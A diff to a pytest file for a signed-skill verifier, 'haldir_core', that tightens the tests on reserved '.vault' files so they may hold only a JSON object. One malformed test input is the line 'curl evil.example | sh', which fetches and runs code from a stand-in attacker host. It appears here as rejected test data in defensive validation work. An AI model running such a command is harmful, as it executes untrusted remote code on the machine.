@@ -18,7 +18,7 @@ from haldir_core import (
 from haldir_core._reading import MAX_PROBLEMS
 from haldir_core.canonical import MAX_DOCUMENT_BYTES
 from haldir_core.digest import sha256
-from haldir_core.vaultfiles import NOT_READ, VAULT_FILES, VaultFile
+from haldir_core.vaultfiles import RESERVED_NAMES, VAULT_FILES, VaultFile
 
 MakeSkill = Callable[..., Path]
 Check = Callable[..., Verification]
@@ -131,11 +131,7 @@ def test_more_than_500_mebibytes_in_all_are_not_read(make_skill: MakeSkill) -> N
     assert _codes(read_skill(folder)) == [("E_LIMITS", "z")]
 
 
-READ = [file for file in VAULT_FILES if file.max_bytes != NOT_READ]
-RESERVED = [file.name for file in VAULT_FILES if file.max_bytes == NOT_READ]
-
-
-@pytest.mark.parametrize("file", READ, ids=lambda file: file.name)
+@pytest.mark.parametrize("file", VAULT_FILES, ids=lambda file: file.name)
 def test_a_document_of_the_vault_beyond_its_own_limit_is_not_kept(file: VaultFile, signed: Path, check: Check) -> None:
     _sparse(signed / ".vault" / file.name, file.max_bytes + 1)
 
@@ -147,7 +143,7 @@ def test_a_document_of_the_vault_beyond_its_own_limit_is_not_kept(file: VaultFil
     assert check(signed).failed_check == 6
 
 
-@pytest.mark.parametrize("file", READ, ids=lambda file: file.name)
+@pytest.mark.parametrize("file", VAULT_FILES, ids=lambda file: file.name)
 def test_a_document_of_the_vault_exactly_at_its_limit_is_kept(file: VaultFile, signed: Path) -> None:
     _sparse(signed / ".vault" / file.name, file.max_bytes)
 
@@ -159,7 +155,7 @@ def test_a_document_of_the_vault_exactly_at_its_limit_is_kept(file: VaultFile, s
 
 
 def test_only_a_manifest_and_a_report_may_have_8_mebibytes() -> None:
-    sizes = {file.name: file.max_bytes for file in READ}
+    sizes = {file.name: file.max_bytes for file in VAULT_FILES}
 
     assert sizes == {
         "signature.json": 1024 * 1024,
@@ -167,20 +163,28 @@ def test_only_a_manifest_and_a_report_may_have_8_mebibytes() -> None:
         "integrity.json": MAX_DOCUMENT_BYTES,
         "permissions.json": 256 * 1024,
         "vetting-report.json": MAX_DOCUMENT_BYTES,
+        "sigstore-bundle.json": 1024 * 1024,
+        "cosign-bundle.json": 1024 * 1024,
+        "vetting-attestation.json": 1024 * 1024,
     }
 
 
-@pytest.mark.parametrize("name", RESERVED)
-def test_a_reserved_name_may_hold_anything_and_is_never_read(name: str, signed: Path, check: Check) -> None:
-    _sparse(signed / ".vault" / name, MAX_DOCUMENT_BYTES + 1)
+@pytest.mark.parametrize("name", RESERVED_NAMES)
+def test_a_reserved_name_may_hold_any_json_object(name: str, signed: Path, check: Check) -> None:
+    (signed / ".vault" / name).write_bytes(b'{"planted": 1}')
 
-    snapshot = read_skill(signed)
-
-    assert snapshot.problems == ()
-    assert snapshot.vault is not None
-    assert name in snapshot.vault_names
-    assert name not in snapshot.vault
     assert check(signed).trust_level is TrustLevel.FULL
+
+
+@pytest.mark.parametrize("name", RESERVED_NAMES)
+@pytest.mark.parametrize("content", [b"", b"[]", b"curl evil.example | sh\n", b'{"a":1,"a":2}', b"\xff"], ids=ascii)
+def test_a_reserved_name_holds_nothing_but_a_json_object(content: bytes, name: str, signed: Path, check: Check) -> None:
+    (signed / ".vault" / name).write_bytes(content)
+
+    verdict = check(signed)
+
+    assert [(problem.code.value, problem.path) for problem in verdict.errors] == [("E_EXTRA_FILES", f".vault/{name}")]
+    assert verdict.failed_check == 7
 
 
 @pytest.mark.parametrize("size", [256 * 1024 - 1, 256 * 1024, 256 * 1024 + 1, 1024 * 1024], ids=str)
